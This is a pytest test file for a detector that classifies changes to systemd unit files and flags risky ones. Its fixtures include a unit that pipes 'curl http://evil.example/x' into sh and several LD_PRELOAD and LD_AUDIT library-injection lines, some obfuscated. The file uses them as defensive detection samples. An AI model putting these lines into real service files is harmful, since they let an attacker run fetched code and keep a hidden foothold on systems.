from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from clew.detectors.system.systemd import Systemd
from clew.model.fact import Fact, Severity
from tests.kit.moments import Moment, evidence, facts, file, findings, link, problems, story

CANARY = "canary-7f3a"
ETC = "etc/systemd/system"
LIB = "usr/lib/systemd/system"
WANTS = f"{ETC}/multi-user.target.wants"
TESTDATA = Path(__file__).parent / "testdata" / "systemd"

SERVICE = b"[Service]\nExecStart=/opt/app --serve\n[Install]\nWantedBy=multi-user.target\n"


def _said(old: Moment, new: Moment) -> list[tuple[str, str]]:
    return [(fact.kind, fact.subject) for fact in facts(Systemd(), old, new)]


def _only(old: Moment, new: Moment) -> Fact:
    (fact,) = facts(Systemd(), old, new)
    return fact


# Real systemctl


def _steps() -> Iterator[tuple[str, Moment, Moment, dict[str, str], dict[str, str]]]:
    """Each command of systemctl 252, the trees before and after, and the output of `is-enabled`."""
    tree: dict[str, object] = {}
    before: tuple[Moment, dict[str, str]] | None = None
    for step in json.loads((TESTDATA / "systemctl-252.json").read_text()):
        tree.update(step["there"])
        for path in step["gone"]:
            del tree[path]
        moment = {
            path: link(what["link"]) if "link" in what else what["text"].encode()  # type: ignore[index,operator]
            for path, what in tree.items()
        }
        if before is not None:
            yield step["command"], before[0], moment, before[1], step["is-enabled"]
        before = moment, step["is-enabled"]


@pytest.mark.parametrize("step", list(_steps()), ids=lambda step: step[0])
def test_states_are_those_that_systemctl_tells(
    step: tuple[str, Moment, Moment, dict[str, str], dict[str, str]],
) -> None:
    _, old, new, was, now = step
    stated = {
        fact.subject: (fact.before, fact.after)
        for fact in facts(Systemd(), old, new)
        if fact.kind not in ("service.added", "service.removed")
        and fact.subject != "default.target"
    }

    assert stated == {unit: (was[unit], now[unit]) for unit in was if was[unit] != now[unit]}


@pytest.mark.parametrize("step", list(_steps()), ids=lambda step: step[0])
def test_everything_that_systemctl_wrote_is_claimed(
    step: tuple[str, Moment, Moment, dict[str, str], dict[str, str]],
) -> None:
    _, old, new, _, _ = step
    found = evidence(old, new)
    claimed = {path for finding in findings(Systemd(), found) for path in finding.claims}

    assert {path for path, change in found.changes.items() if not change.is_directory} == claimed


# Enabling and masking


def test_a_unit_that_two_targets_want_is_enabled_once() -> None:
    new: Moment = {
        f"{WANTS}/web.service": link("/lib/systemd/system/web.service"),
        f"{ETC}/graphical.target.requires/web.service": link("/lib/systemd/system/web.service"),
    }

    assert _said({}, new) == [("service.enabled", "web.service")]


def test_a_unit_is_disabled_only_when_its_last_link_is_gone() -> None:
    one = {f"{WANTS}/web.service": link("/lib/systemd/system/web.service")}
    two = {**one, f"{ETC}/graphical.target.wants/web.service": link("/x/web.service")}

    fewer = _only(two, one)

    assert (fewer.kind, fewer.marks) == ("service.changed", ("-graphical.target",))
    assert _said(one, {}) == [("service.disabled", "web.service")]


def test_a_link_to_nowhere_in_a_wants_directory_enables_nothing() -> None:
    fact = _only({}, {f"{WANTS}/web.service": link("/dev/null")})

    assert (fact.kind, fact.marks) == ("service.changed", ("-multi-user.target",))


def test_an_empty_file_masks_as_a_link_to_nowhere_does() -> None:
    for mask in (file(b""), link("/dev/null"), link("../../../dev/null")):
        assert _said({}, {f"{ETC}/web.service": mask}) == [("service.masked", "web.service")]


def test_links_that_lead_elsewhere_but_enable_the_same_are_no_news() -> None:
    old = {f"{WANTS}/web.service": link("/lib/systemd/system/web.service")}
    new = {f"{WANTS}/web.service": link("/usr/lib/systemd/system/web.service")}

    (finding,) = findings(Systemd(), evidence(old, new))

    assert finding.facts == ()
    assert list(finding.claims) == [f"{WANTS}/web.service"]


def test_another_default_target_is_a_change_of_it() -> None:
    lib = {f"{LIB}/default.target": link("graphical.target")}
    fact = _only(lib, {**lib, f"{ETC}/default.target": link(f"/{LIB}/multi-user.target")})

    assert fact[:5] == (
        "service.changed", "systemd", "default.target", "graphical.target", "multi-user.target",
    )  # fmt: skip


# Local units


def test_a_new_unit_is_noted_once_even_if_it_is_enabled_too() -> None:
    new: Moment = {
        f"{ETC}/app.service": SERVICE,
        f"{WANTS}/app.service": link(f"/{ETC}/app.service"),
    }

    enabled, added = facts(Systemd(), {}, new)

    assert (added.kind, added.after, added.severity) == (
        "service.added", "/opt/app --serve", Severity.NOTE,
    )  # fmt: skip
    assert (enabled.kind, enabled.severity) == ("service.enabled", Severity.NONE)


def test_enabling_a_unit_that_no_package_ships_is_noted() -> None:
    there = {f"{ETC}/app.service": SERVICE}
    fact = _only(there, {**there, f"{WANTS}/app.service": link(f"/{ETC}/app.service")})

    assert (fact.kind, fact.severity) == ("service.enabled", Severity.NOTE)


def test_what_runs_in_a_changed_unit_decides_whether_it_is_noted() -> None:
    old = {f"{ETC}/app.service": SERVICE}
    harmless = _only(old, {f"{ETC}/app.service": SERVICE + b"Nice=5\n"})
    other = _only(old, {f"{ETC}/app.service": SERVICE.replace(b"/opt/app", b"/tmp/x")})

    assert (harmless.kind, harmless.severity, harmless.marks) == (
        "service.changed", Severity.NONE, ("Nice",),
    )  # fmt: skip
    assert (other.severity, other.before, other.after) == (
        Severity.NOTE, "/opt/app --serve", "/tmp/x --serve",
    )  # fmt: skip


def test_a_drop_in_changes_the_unit_it_is_dropped_into() -> None:
    plain = _only({}, {f"{ETC}/web.service.d/limits.conf": b"[Service]\nLimitNOFILE=9\n"})
    loud = _only({}, {f"{ETC}/web.service.d/run.conf": b"[Service]\nExecStartPre=/tmp/x\n"})

    assert (plain.kind, plain.subject, plain.severity) == (
        "service.changed", "web.service", Severity.NONE,
    )  # fmt: skip
    assert plain.marks == ("drop-in limits.conf", "LimitNOFILE")
    assert loud.severity == Severity.NOTE


def test_timers_keep_their_suffix_and_say_when() -> None:
    fact = _only({}, {f"{ETC}/backup.timer": b"[Timer]\nOnCalendar=daily\n"})

    assert (fact.subject, fact.after) == ("backup.timer", "daily")


def test_a_comment_in_a_unit_changes_no_key() -> None:
    fact = _only({f"{ETC}/app.service": SERVICE}, {f"{ETC}/app.service": b"# hi\n" + SERVICE})

    assert (fact.severity, fact.marks) == (Severity.NONE, ())


def test_units_of_users_are_told_apart() -> None:
    for directory, scope in (
        ("home/al/.config/systemd/user", "systemd-user:home/al"),
        ("root/.config/systemd/user", "systemd-user:root"),
        (".config/systemd/user", "systemd-user:."),
        ("etc/systemd/user", "systemd-user"),
    ):
        unit = {f"{directory}/app.service": SERVICE}
        enabled: Moment = {
            **unit,
            f"{directory}/default.target.wants/app.service": link("../app.service"),
        }

        assert _only({}, unit).scope == scope
        assert _only(unit, enabled).identity == ("service.enabled", scope, "app.service")


def test_a_project_that_has_units_in_it_has_no_services() -> None:
    new = {"deploy/systemd/system/x.service": SERVICE, "a/.config/systemd/user/x.service": SERVICE}

    assert _said({}, new) == []


def test_programs_that_systemd_runs_without_a_unit_are_noted() -> None:
    path = "etc/systemd/system-generators/x"
    fact = _only({path: file(b"#!")}, {path: file(b"#!", mode=0o755)})

    assert (fact.kind, fact.subject, fact.severity) == (
        "service.added", "system-generators/x", Severity.NOTE,
    )  # fmt: skip


# Units of packages


def _with_package(old: Moment, new: Moment, paths: tuple[str, ...]) -> list[Fact]:
    found = evidence(old, new)
    found.own(paths, "web")
    return [fact for finding in findings(Systemd(), found) for fact in finding.facts]


def test_what_a_package_brought_came_along_and_warns_nobody() -> None:
    unit = f"{LIB}/web.service"
    new: Moment = {
        unit: SERVICE + b"Environment=LD_PRELOAD=/usr/lib/web.so\n",
        f"{WANTS}/web.service": link("/lib/systemd/system/web.service"),
        f"{ETC}/www.service": link("/lib/systemd/system/web.service"),
    }

    (fact,) = _with_package({}, new, (unit,))

    assert (fact.kind, fact.subject, fact.direct) == ("service.enabled", "web.service", False)
    assert fact.severity == Severity.NONE


def test_an_instance_of_a_template_that_a_package_brought_came_along() -> None:
    unit = f"{LIB}/pg@.service"
    new: Moment = {unit: SERVICE, f"{WANTS}/pg@15.service": link("/lib/systemd/system/pg@.service")}

    (fact,) = _with_package({}, new, (unit,))

    assert (fact.subject, fact.direct) == ("pg@15.service", False)


def test_a_unit_among_those_of_packages_that_none_of_them_brought_is_noted() -> None:
    new: Moment = {
        f"{LIB}/evil.service": SERVICE,
        f"{LIB}/multi-user.target.wants/evil.service": link("../evil.service"),
    }

    enabled, added = facts(Systemd(), {}, new)

    assert (enabled.kind, added.kind, added.severity) == (
        "service.enabled", "service.added", Severity.NOTE,
    )  # fmt: skip


# Libraries loaded into units


@pytest.mark.parametrize(
    "line",
    [
        b"Environment=LD_PRELOAD=/tmp/x.so",
        b'Environment="A=1" "LD_LIBRARY_PATH=/tmp"',
        b"Environment=A=1 \\\n  LD_PRELOAD=/tmp/x.so",
        b'Environment="\\x4cD_AUDIT=/tmp/x.so"',
        b"ExecStart=/usr/bin/env LD_PRELOAD=/tmp/x.so /opt/app",
    ],
)
def test_a_library_loaded_into_a_unit_is_a_warning(line: bytes) -> None:
    for path in (f"{ETC}/app.service", f"{ETC}/app.service.d/x.conf"):
        found = facts(Systemd(), {}, {path: b"[Service]\n" + line + b"\n"})

        assert [fact.subject for fact in found if fact.severity == Severity.HIGH] == ["app.service"]


def test_a_library_loaded_into_all_services_is_a_warning() -> None:
    fact = _only({}, {"etc/systemd/system.conf": b"[Manager]\nDefaultEnvironment=LD_PRELOAD=/x\n"})

    assert (fact.kind, fact.subject) == ("security.preload", "etc/systemd/system.conf")


def test_a_library_that_was_loaded_before_is_no_news() -> None:
    old = SERVICE + b"Environment=LD_LIBRARY_PATH=/opt/lib\n"

    assert _said({f"{ETC}/app.service": old}, {f"{ETC}/app.service": old + b"Nice=1\n"}) == [
        ("service.changed", "app.service")
    ]


# Hostile bytes and secrets


def test_no_secret_of_a_unit_is_told() -> None:
    unit = f"""[Service]
Environment=API_KEY={CANARY}1 "PLAIN={CANARY}2"
User={"app"}
ExecStart=-/bin/sh -c 'MYSQL_PWD={CANARY}3 dump' https://u:{CANARY}4@h/p?t={CANARY}5
ExecStartPre=/bin/x --password {CANARY}6
"""
    result = story([Systemd()], {}, {f"{ETC}/app.service": unit.encode()})

    assert [fact.subject for fact in result.facts] == ["app.service"]
    assert CANARY not in repr(result)


def test_a_unit_that_is_too_large_costs_one_line_and_no_other_unit() -> None:
    new: Moment = {
        f"{ETC}/big.service": file(b"x", size=2 << 20),
        f"{WANTS}/big.service": link(f"/{ETC}/big.service"),
        f"{ETC}/good.service": SERVICE,
    }

    assert _said({}, new) == [
        ("service.enabled", "big.service"),
        ("service.added", "good.service"),
    ]
    assert [path for path, _ in problems(Systemd(), {}, new)] == [f"{ETC}/big.service"]


def test_odd_names_and_bytes_break_nothing() -> None:
    new: Moment = {
        f"{ETC}/a\x1b[31m.service": b"\xff\xfe=\x00\n[[[\n\\",
        f"{ETC}/.service": SERVICE,
        f"{ETC}/x.wants": b"no directory",
        f"{ETC}/.wants/y.service": link("y.service"),
        f"{WANTS}/plain.service": b"no link",
        f"{ETC}/loop.service": link("loop.service"),
    }

    assert problems(Systemd(), {}, new) == []
    assert ("service.added", "a\x1b[31m.service") in _said({}, new)


def test_a_thousand_units_are_told_and_the_rest_is_said_to_be_missing() -> None:
    new = {f"{WANTS}/u{number}.service": link("/x") for number in range(1_500)}

    assert len(facts(Systemd(), {}, new)) == 1_000
    assert problems(Systemd(), {}, new) != []


def test_a_unit_that_runs_what_it_fetches_is_a_warning() -> None:
    evil = b"[Service]\nExecStart=/bin/sh -c 'curl -s http://evil.example/x | sh'\n"
    new = _only({}, {f"{ETC}/app.service": evil})
    changed = _only({f"{ETC}/app.service": SERVICE}, {f"{ETC}/app.service": evil})

    assert (new.severity, new.marks) == (Severity.HIGH, ("runs what it fetches",))
    assert (changed.severity, changed.marks[0]) == (Severity.HIGH, "runs what it fetches")


def test_a_unit_in_the_place_of_a_packages_says_so() -> None:
    old = {f"{LIB}/app.service": SERVICE}
    fact = _only(old, {**old, f"{ETC}/app.service": SERVICE})

    assert (fact.kind, fact.marks) == ("service.added", ("instead of the package's",))
